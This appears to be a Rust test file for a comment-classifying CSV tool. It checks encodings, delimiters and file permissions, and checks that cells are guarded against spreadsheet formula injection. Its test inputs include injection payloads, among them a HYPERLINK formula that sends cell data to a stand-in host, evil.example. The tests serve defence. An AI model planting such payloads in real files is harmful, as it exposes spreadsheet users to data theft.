//! Files as people exchange them with spreadsheets: they come out as they came in, or as Excel opens them.

use std::collections::HashMap;

use crate::common::{Folder, csv};
use serde_json::Value;

const MARK: &str = "\u{FEFF}";

/// Cells of CSV without their mark.
fn cells(csv: &str, delimiter: u8) -> Vec<Vec<String>> {
    let csv = csv.strip_prefix(MARK).unwrap_or(csv);
    let mut reader = csv::ReaderBuilder::new();
    let reader = reader.has_headers(false).delimiter(delimiter).from_reader(csv.as_bytes());
    reader.into_records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Byte order mark, line ends, delimiter and quotes of the input are those of the output.
#[test]
fn rows_come_out_as_they_came_in() {
    for mark in ["", MARK] {
        for line_end in ["\n", "\r\n", "\r"] {
            for delimiter in [",", ";", "\t", "|"] {
                let two_lines = format!("\"two{line_end}lines, \"\"quoted\"\"; and more\"");
                let rows = [
                    vec!["\"id\"", "text", "when"],
                    vec!["1", "\"شكرا جزيلا\"", "\"\""],
                    vec!["\"2\"", &two_lines, "  x "],
                    vec!["", "=1+1", "\"0\""],
                    vec!["'=4", "you fool", "\u{a0}"],
                ];
                let rows = rows.map(|row| row.join(delimiter));
                let file = mark.to_owned() + &rows.join(line_end) + line_end;
                let folder = Folder::new(&[("in.csv", file.as_bytes())]);
                let options = if delimiter == "|" { &["--delimiter", "|"][..] } else { &[] };
                let ran = folder.score(&[&["in.csv"], options].concat(), b"");
                ran.says(0, &[]);
                let out = ran.out();
                let mut rest = out.strip_prefix(mark).unwrap_or_else(|| panic!("{out:?}"));
                for row in &rows {
                    let row = format!("{row}{delimiter}");
                    rest = rest.strip_prefix(&row).unwrap_or_else(|| panic!("{row:?} is not at {rest:?} of {file:?}"));
                    let (naqd, after) = rest.split_once(line_end).expect("a line end");
                    assert!(!naqd.contains(['\r', '\n', '"']) && naqd.contains(delimiter), "{naqd:?}");
                    rest = after;
                }
                assert_eq!(rest, "");
                // With a mark, an apostrophe guards a formula; without one it is the reader's own.
                let json = folder.score(&[&["in.csv", "--to", "jsonl"], options].concat(), b"").out();
                let last: Value = serde_json::from_str(json.lines().last().unwrap()).unwrap();
                assert_eq!(last["id"], if mark.is_empty() { "'=4" } else { "=4" });
            }
        }
    }
}

/// A row in another encoding than its file keeps its bytes, and says so in its place.
#[test]
fn bytes_that_are_not_utf_8_come_back() {
    let bad = encoding_rs::WINDOWS_1256.encode("2,شكرا جزيلا").0.into_owned();
    let file = [b"id,text\n1,hello\n", &bad[..], b"\n3,\"x\",\n4,you fool\n"].concat();
    let folder = Folder::new(&[("in.csv", &file)]);
    let ran = folder.score(&["in.csv"], b"");
    ran.says(1, &["in.csv:3: not valid UTF-8", "in.csv:4: 3 fields, expected 2"]);
    let rows: Vec<&[u8]> = ran.0.stdout.split(|byte| *byte == b'\n').collect();
    assert!(rows[2].starts_with(&[&bad[..], b","].concat()));
    assert!(rows[3].starts_with(b"3,\"x,\",") && rows[4].starts_with(b"4,you fool,abusive,"));
}

/// Quotes that each program reads in its own way are written such that all read the same.
#[test]
fn quotes_in_the_middle_of_a_field_are_made_sound() {
    let file = "id,text\n1,he said \"hi, there\n2,\"a\"b\n3,\"open";
    let folder = Folder::new(&[("in.csv", file.as_bytes())]);
    let out = folder.score(&["in.csv"], b"").out();
    // The first row has one field too many, and keeps all of it.
    let rows = cells(&out, b',');
    assert_eq!(rows.len(), 4, "{out}");
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    // Quotes that are the writer's own stay, and so does one that is never closed.
    let found = (rows[1][1].as_str(), rows[2][1].as_str(), rows[3][1].as_str());
    assert_eq!(found, ("he said \"hi, there", "\"a\"b", "\"open"));
}

#[test]
fn utf_16_comes_back_as_utf_8_and_says_so() {
    let text = "id\ttext\r\n1\tشكرا على التقرير\r\n";
    for big in [false, true] {
        let units = [0xFEFF_u16].into_iter().chain(text.encode_utf16());
        let bytes: Vec<u8> = units.flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect();
        let folder = Folder::new(&[("in.csv", &bytes)]);
        let ran = folder.score(&["in.csv"], b"");
        let name = if big { "UTF-16BE" } else { "UTF-16LE" };
        ran.says(0, &[&format!("in.csv: read as {name}, written as UTF-8 with a byte order mark")]);
        assert!(ran.out().starts_with("\u{FEFF}id\ttext\tnaqd_label\t"), "{}", ran.out());
        assert!(ran.out().contains("\r\n1\tشكرا على التقرير\tneutral\t") && ran.out().ends_with("\t\r\n"));
    }
}

/// Comments that a spreadsheet would take for formulas, and those that begin like a guarded one.
const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "@SUM(1+1)*cmd",
    "-1+2",
    "+44 20 1234",
    "\t=1+1",
    "＝1+1 x",
    "'=1+1",
    "''-2 and so on",
    "'tis a fine report",
    "a; =1, b",
    "لا =1",
    "-",
];

fn formulas(mark: &str) -> String {
    let mut file = format!("{mark}id;text;=note\n");
    for (i, text) in FORMULAS.iter().enumerate() {
        file += &format!("{i};\"{}\";=1+{i}\n", text.replace('"', "\"\""));
    }
    file
}

/// No cell of a file for Excel is a formula, and naqd reads what stood there before; the second time too.
#[test]
fn cells_for_excel_are_guarded_and_read_as_they_were() {
    let folder = Folder::new(&[("in.csv", formulas("").as_bytes())]);
    let own = |out: &str| -> Vec<Vec<String>> {
        let live = |cell: &String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']);
        let rows = cells(out, b';');
        assert!(rows.iter().flatten().all(|cell| !live(cell)), "{rows:?}");
        rows.into_iter().map(|row| row[..3].to_vec()).collect()
    };
    let write = |name: &str, rows: &[Vec<String>]| {
        let mut csv = csv::WriterBuilder::new().delimiter(b';').from_writer(MARK.as_bytes().to_vec());
        rows.iter().for_each(|row| csv.write_record(row).unwrap());
        std::fs::write(folder.path(name), csv.into_inner().unwrap()).unwrap();
    };
    let texts = |name: &str| -> Vec<(String, String)> {
        let json = folder.score(&[name, "--to", "jsonl"], b"").out();
        let row = |line: &str| {
            let row: Value = serde_json::from_str(line).unwrap();
            (row["text"].as_str().unwrap().to_owned(), row["=note"].as_str().unwrap().to_owned())
        };
        json.lines().map(row).collect()
    };
    let expected: Vec<_> =
        FORMULAS.iter().enumerate().map(|(i, text)| ((*text).to_owned(), format!("=1+{i}"))).collect();
    assert_eq!(texts("in.csv"), expected);
    let mut name = "in.csv";
    for trip in ["first.csv", "second.csv"] {
        let ran = folder.score(&["--excel", name], b"");
        ran.says(0, &[]);
        assert!(ran.out().starts_with("\u{FEFF}id;text;'=note;naqd_label;") && ran.out().ends_with("\r\n"));
        let rows = own(&ran.out());
        assert_eq!((rows[1][1].as_str(), rows[7][1].as_str()), (&*format!("'{}", FORMULAS[0]), "''=1+1"));
        write(trip, &rows);
        assert_eq!(texts(trip), expected);
        name = trip;
    }
    assert_eq!(folder.read("first.csv"), folder.read("second.csv"));
    // Not guarded where nobody asked for it.
    assert!(folder.score(&["in.csv"], b"").out().contains("\n2;\"-1+2\";=1+2;"));
}

/// The delimiter is the one that is asked for, or else that of the input; other formats become CSV.
#[test]
fn excel_has_the_delimiter_of_its_country() {
    let folder = Folder::new(&[
        ("a.csv", b"id,text\n1,hello; there\n"),
        ("b.csv", b"id;text\n1;hello, there\n"),
        ("c.tsv", b"id\ttext\n1\thello, there\n"),
        ("d.jsonl", b"{\"id\":-1,\"text\":\"=hello\"}\n"),
        ("e.txt", "شكرا\n".as_bytes()),
    ]);
    for (file, option, begin) in [
        ("a.csv", "--excel", "id,text,"),
        ("a.csv", "--excel=semicolon", "id;text;"),
        ("b.csv", "--excel", "id;text;"),
        ("b.csv", "--excel=comma", "id,text,"),
        ("c.tsv", "--excel", "id,text,"),
        ("d.jsonl", "--excel", "id,text,"),
        ("e.txt", "--excel=semicolon", "text;naqd_label;"),
    ] {
        let ran = folder.score(&[option, file], b"");
        ran.says(0, &[]);
        assert!(ran.out().starts_with(&format!("{MARK}{begin}")), "{file} {option}: {}", ran.out());
    }
    assert!(folder.score(&["--excel", "d.jsonl"], b"").out().contains("\r\n'-1,'=hello,"));
    assert!(folder.score(&["--excel", "--text", "-3"], b"").out().contains("\r\n'-3,"));
    folder.score(&["--excel=tab", "a.csv"], b"").says(2, &["expected semicolon or comma"]);
    folder.score(&["--excel", "--to", "jsonl", "a.csv"], b"").says(2, &["--excel writes CSV"]);
}

/// A list of naqd-audit has the other columns and the row of the spreadsheet, ranks from 1, and opens in Excel.
#[test]
fn audit_lists_are_lists_to_work_with() {
    let rows = csv(20).replace("id,text,label", "id,text,label,kind,date");
    let rows: Vec<String> = rows.lines().skip(1).zip(1..).map(|(row, i)| format!("{row},k{i},=date{i}")).collect();
    let file = format!(
        "\"id\",text,label,kind,date\n\n{}\nx1,\"=thank you, what an idiot you are,\nyou fool\",neutral,odd,=1+1\n\
         x2,\"شكرا جزيلا, good morning, thank you\",abusive,,\n",
        rows.join("\n")
    );
    let folder = Folder::new(&[("a.csv", file.as_bytes())]);
    let ran = folder.audit(&["a.csv", "--excel=semicolon", "--output", "list.csv"]);
    ran.says(0, &[]);
    let list = folder.read("list.csv");
    assert!(list.starts_with(MARK) && list.ends_with("\r\n"));
    let list = cells(&list, b';');
    assert_eq!(
        list[0].join(" "),
        "file line row text label label_probability suggested suggested_probability kind rank why id input_kind date"
    );
    let list: Vec<HashMap<&str, &str>> = list[1..]
        .iter()
        .map(|row| list[0].iter().map(String::as_str).zip(row.iter().map(String::as_str)).collect())
        .collect();
    assert_eq!(list.len(), 62);
    let ranks: Vec<usize> = list.iter().map(|row| row["rank"].parse().unwrap()).collect();
    assert_eq!(ranks, (1..=62).collect::<Vec<_>>());
    let of = |id: &str| list.iter().find(|row| row["id"] == id).unwrap();
    assert_eq!(
        (of("x1")["line"], of("x1")["row"], of("x1")["input_kind"], of("x1")["date"]),
        ("63", "63", "odd", "'=1+1")
    );
    assert!(of("x1")["text"].starts_with("'=thank you") && of("x1")["rank"].parse::<usize>().unwrap() < 4);
    // Its comment has two lines.
    assert_eq!((of("x2")["line"], of("x2")["row"]), ("65", "64"));
    assert_eq!((of("abusive0")["row"], of("abusive0")["date"]), ("3", "'=date1"));
    // What was corrected there is learnt from.
    folder.train(&["list.csv", "--from", "none", "--output", "mine.naqd"]).says(0, &[]);
    let again = folder.audit(&["list.csv", "--limit", "1000"]);
    assert!(again.out().contains("\"=thank you, what an idiot"), "the guard is off");
    // Without the option: no mark, no guard.
    let plain = folder.audit(&["a.csv"]).out();
    assert!(plain.starts_with("file,line,row,text,") && plain.contains(",=1+1\n"), "{plain}");
}

/// New files follow the umask; those with comments of readers are for their owner, and a file that was there keeps its
/// permissions.
#[cfg(unix)]
#[test]
fn new_files_are_as_readable_as_they_should_be() {
    use std::os::unix::fs::PermissionsExt;
    let folder = Folder::new(&[("a.csv", csv(20).as_bytes())]);
    let run = |umask: &str, program: &str, args: &str| {
        let program = folder.command(program).get_program().to_str().unwrap().to_owned();
        let mut shell = std::process::Command::new("sh");
        shell.args(["-c", &format!("umask {umask}; exec {program} {args}")]).current_dir(folder.path(""));
        let ran = shell.output().unwrap();
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
    };
    let mode = |name: &str| std::fs::metadata(folder.path(name)).unwrap().permissions().mode() & 0o777;
    let model = "a.csv --from none --output";
    for (umask, expected) in [("022", 0o644), ("027", 0o640), ("077", 0o600), ("002", 0o664)] {
        run(umask, "naqd-train", &format!("{model} m{umask}.naqd --card c{umask}.md --report r{umask}.html"));
        let modes =
            [format!("m{umask}.naqd"), format!("c{umask}.md"), format!("r{umask}.html")].map(|name| mode(&name));
        assert_eq!(modes, [expected, expected, 0o600], "umask {umask}");
    }
    run("022", "naqd-audit", "a.csv --limit 3 --output list.csv");
    run("022", "naqd-score", "a.csv --output scored.csv");
    run("022", "naqd-report", "m022.naqd a.csv --output report.html");
    assert_eq!(["list.csv", "scored.csv", "report.html"].map(mode), [0o600; 3]);
    std::fs::set_permissions(folder.path("scored.csv"), std::fs::Permissions::from_mode(0o644)).unwrap();
    run("077", "naqd-score", "a.csv --output scored.csv");
    assert_eq!(mode("scored.csv"), 0o644);
}
